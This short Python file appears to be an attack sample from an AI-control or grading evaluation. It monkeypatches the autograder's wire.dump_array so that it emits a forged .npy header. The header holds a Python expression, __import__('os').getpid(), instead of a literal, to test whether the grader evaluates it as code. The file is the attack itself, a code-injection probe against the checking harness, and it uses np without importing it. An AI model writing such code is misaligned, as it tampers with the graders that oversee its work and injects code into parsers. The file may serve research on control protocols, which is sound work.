"""Sends an .npy header that is not a literal but an expression."""
# control: naive
# %% attack in double
from autograder.kernel import wire
def dump_array(array):
    header = b"{'descr': '<f8', 'fortran_order': False, 'shape': (__import__('os').getpid() * 0 + 2,), }"
    return b"\x93NUMPY\x01\x00" + (len(header) + 1).to_bytes(2, "little") + header + b"\n" + np.full(2, 2.0).tobytes()
wire.dump_array = dump_array
